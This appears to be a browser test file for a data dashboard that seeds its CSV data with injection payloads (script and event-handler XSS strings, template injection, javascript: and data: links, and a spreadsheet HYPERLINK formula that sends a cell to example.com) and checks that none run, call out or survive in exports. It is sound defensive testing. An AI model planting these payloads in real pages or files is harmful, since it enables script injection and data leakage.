"""Data that attacks: every text carries attack strings, and nothing runs, links out or becomes markup."""

import csv
import io
import json
import zipfile
from collections.abc import Iterator
from pathlib import Path

import pytest
from playwright.sync_api import Frame, Page, expect

from tests.browser.dashboard_page import ROWS, details, map_frame, marker, open_page, the_map, wait_until_idle
from tests.browser.server import Server, copy_project, running
from tests.browser.witness import NewPage, Witness

ATTACKS = [
    '=HYPERLINK("http://example.com/?"&A1,"x")',
    "${window.hit=1}`${window.hit=1}`",
    "</script><script>window.hit=1</script>",
    "<img src=x onerror=window.hit=1>",
    '"><svg onload=window.hit=1>',
    "{{constructor.constructor('window.hit=1')()}}{% raw %}",
    "[x](javascript:window.hit=1)",
    "![](http://example.com/x.png)",
    ":material/home: :red[x] $x$ **x** # x",
    "\u202eright to left\u200f \\u0041 \\",
]
ADDRESSES = ["javascript:window.hit=1", "JavaScript:window.hit=1//https://x", "data:text/html,x"]
TEXTS = {
    "events": ["title", "summary"],
    "claims": ["value_text", "unit", "said_by", "note"],
    "statements": ["speaker", "paraphrase"],
    "sources": ["publisher", "title", "note"],
    "actors": ["name_en", "name_sq", "name_sr_latn", "name_sr_cyrl"],
    "places": ["name_en", "name_sq", "name_sr_latn", "name_sr_cyrl", "source"],
    "key_figures": ["label", "unit", "shown_as"],
    "coverage": ["rule", "note"],
    "stories": ["title", "text"],
    "changes": ["note"],
}
NUMBERS = {
    "lat", "lon", "low", "best", "high", "fatalities_low", "fatalities_best", "fatalities_high", "injured_low",
    "injured_best", "injured_high",
}  # fmt: skip
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def _attack(number: int) -> str:
    """All attacks in one text, another one first in each row."""
    at = number % len(ATTACKS)
    return " ".join([*ATTACKS[at:], *ATTACKS[:at]])


def _poison(table: Path, columns: list[str]) -> None:
    with table.open(encoding="utf-8-sig", newline="") as file:
        rows = list(csv.DictReader(file))
    for number, row in enumerate(rows):
        for place, column in enumerate(columns):
            if column == "unit" and row[column]:  # what has one unit still has one
                row[column] = f"{_attack(len(row[column]))} {row[column]}"
            elif row[column] or column not in {"value_text", "unit"}:  # a claim is a number with a unit, or words
                row[column] = _attack(number + place)
        if "said_by" in row:
            row["said_by"] += f" {number}"  # two speakers that contradict each other have two names
        if "url" in row:
            row["url"] = ["javascript:window.hit=1", "JavaScript:window.hit=1//https://x", "data:text/html,x"][
                number % 3
            ]
    with table.open("w", encoding="utf-8", newline="") as file:
        writer = csv.DictWriter(file, list(rows[0]))
        writer.writeheader()
        writer.writerows(rows)


def _lift_limits(package: Path) -> None:
    """Take lengths and the form of addresses out of the schema, so that nothing but the page's own care is tested."""
    description = json.loads(package.read_text("utf-8"))
    for resource in description["resources"]:
        for column in resource["schema"]["fields"]:
            constraints = column.get("constraints", {})
            constraints.pop("maxLength", None)
            if column["name"] == "url":
                constraints.pop("pattern", None)
    package.write_text(json.dumps(description), "utf-8")


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Server]:
    root = copy_project(tmp_path_factory.mktemp("hostile"))
    for name, columns in TEXTS.items():
        _poison(root / "seeds" / f"{name}.csv", columns)
    _poison(root / "geodata" / "places.csv", ["name_en", "name_sq", "name_sr_latn", "name_sr_cyrl"])
    _lift_limits(root / "seeds" / "datapackage.json")
    with running(root) as server:
        yield server


def _assert_nothing_fired(page: Page, witness: Witness) -> None:
    assert [frame.evaluate("window.hit ?? null") for frame in page.frames] == [None] * len(page.frames)
    assert witness.dialogs == []
    assert witness.outside() == []
    assert [link for frame in page.frames for link in _dangerous_links(frame)] == []
    assert (
        sum(frame.locator("img[onerror], svg[onload], img[src*='example.com']").count() for frame in page.frames) == 0
    )


def _dangerous_links(frame: Frame) -> list[str]:
    links: list[str] = frame.locator("a[href]").evaluate_all("links => links.map((link) => link.href)")
    return [link for link in links if not link.startswith(("http://127.0.0.1", "https://", "http://localhost"))]


def test_nothing_in_the_data_runs_on_the_page_or_in_the_map(
    new_page: NewPage, hostile: Server, witness: Witness
) -> None:
    page = new_page(base_url=hostile.url)
    open_page(page, "?since=2023-01-01")
    expect(page.locator(ROWS).first).to_contain_text("<img src=x onerror=window.hit=1>")
    _assert_nothing_fired(page, witness)

    for button in page.locator(".figure > button").all():
        button.click()
        body = page.locator(".figure [popover]:popover-open")
        expect(body).to_contain_text("window.hit")
        _assert_nothing_fired(page, witness)
        page.keyboard.press("Escape")
        expect(body).to_have_count(0)

    for place in page.locator(".st-key-elsewhere-curated").get_by_role("radio").all():
        place.click()
        expect(page.locator(".st-key-events-elsewhere-curated")).to_contain_text("window.hit")
        _assert_nothing_fired(page, witness)

    for button in page.locator(".st-key-coverage").all():
        button.get_by_role("button").click()
        body = page.locator("[data-testid=stPopoverBody]")
        expect(body).to_contain_text("window.hit")
        _assert_nothing_fired(page, witness)
        page.keyboard.press("Escape")
        expect(body).to_have_count(0)

    page.get_by_role("button", name="More filters").click()
    page.get_by_role("combobox", name="Actors, on either side of an event").click()
    expect(page.get_by_role("option").first).to_be_visible()
    _assert_nothing_fired(page, witness)
    page.keyboard.press("Escape")
    page.keyboard.press("Escape")

    page.get_by_text("All columns as a table").click()
    expect(page.locator(".st-key-table canvas").first).to_be_visible()
    _assert_nothing_fired(page, witness)


def test_nothing_in_the_data_runs_in_tooltips_lists_and_details(
    new_page: NewPage, hostile: Server, witness: Witness
) -> None:
    page = new_page(base_url=hostile.url)
    open_page(page)
    for event_id in ("2023-09-29-police-searches", "2023-09-24-six-arrested"):
        marker(page, event_id).dispatch_event("mouseover")
        marker(page, event_id).dispatch_event("mousemove")
    expect(the_map(page).locator(".event-tip")).to_contain_text("<script>window.hit=1</script>")
    _assert_nothing_fired(page, witness)

    marker(page, "2023-09-24-banjska-ambush").focus()
    page.keyboard.press("Enter")
    expect(the_map(page).get_by_role("dialog")).to_contain_text("<img src=x onerror=window.hit=1>")
    _assert_nothing_fired(page, witness)
    page.keyboard.press("Enter")
    expect(details(page)).to_contain_text("</script><script>window.hit=1</script>")
    expect(details(page).locator("ol.sources a")).to_have_count(0)
    _assert_nothing_fired(page, witness)

    page.locator(".st-key-details summary").click()
    page.get_by_role("combobox", name="What is wrong?").click()
    expect(page.get_by_role("option").filter(has_text="window.hit").first).to_be_visible()
    page.keyboard.press("Escape")
    report = page.get_by_role("textbox", name="Write what it should say")
    assert len(report.input_value().split("\n")) == 8
    _assert_nothing_fired(page, witness)

    open_page(page, "?event=2023-09-29-us-warning&q=window")
    expect(details(page)).to_contain_text("${window.hit=1}")
    page.get_by_role("button", name="Cite this view").click()
    expect(page.locator("[data-testid=stPopoverBody] code")).to_be_visible()
    wait_until_idle(page)
    _assert_nothing_fired(page, witness)
    assert map_frame(page).evaluate("document.querySelectorAll('script:not([src])').length") <= 3


def test_nothing_in_the_data_runs_in_story_accounts_and_changes(
    new_page: NewPage, hostile: Server, witness: Witness
) -> None:
    page = new_page(base_url=hostile.url)
    open_page(page, "?story=banjska-2023&step=4")
    expect(page.locator("article.story")).to_contain_text("<img src=x onerror=window.hit=1>")
    expect(page.locator("article.story a")).to_have_count(0)
    _assert_nothing_fired(page, witness)
    for address in (
        "?view=accounts",
        "?view=accounts&event=2023-09-24-banjska-standoff",
        "?view=sources&changed_since=2023-09-23",
    ):
        page.goto(f"/{address}")
        expect(page.locator(".accounts, .changes").first).to_contain_text("<img src=x onerror=window.hit=1>")
        wait_until_idle(page)
        _assert_nothing_fired(page, witness)


def _formulas(content: bytes) -> list[tuple[str, str]]:
    rows = csv.DictReader(io.StringIO(content.decode("utf-8-sig"), newline=""))
    return [
        (column, cell[:40])
        for row in rows
        for column, cell in row.items()
        if column not in NUMBERS and cell.lstrip(" ").startswith(FORMULA_STARTS)
    ]


def test_no_file_carries_a_formula(hostile: Server) -> None:
    content = hostile.get("/api/events.csv?since=2008-01-01&until=")
    assert b"'=HYPERLINK" in content
    assert _formulas(content) == []
    archive = zipfile.ZipFile(io.BytesIO(hostile.get("/api/events.zip?since=2008-01-01&until=")))
    tables = [name for name in archive.namelist() if name.endswith(".csv")]
    assert tables == ["events.csv", "claims.csv", "statements.csv", "sources.csv"]
    assert [found for name in tables for found in _formulas(archive.read(name))] == []
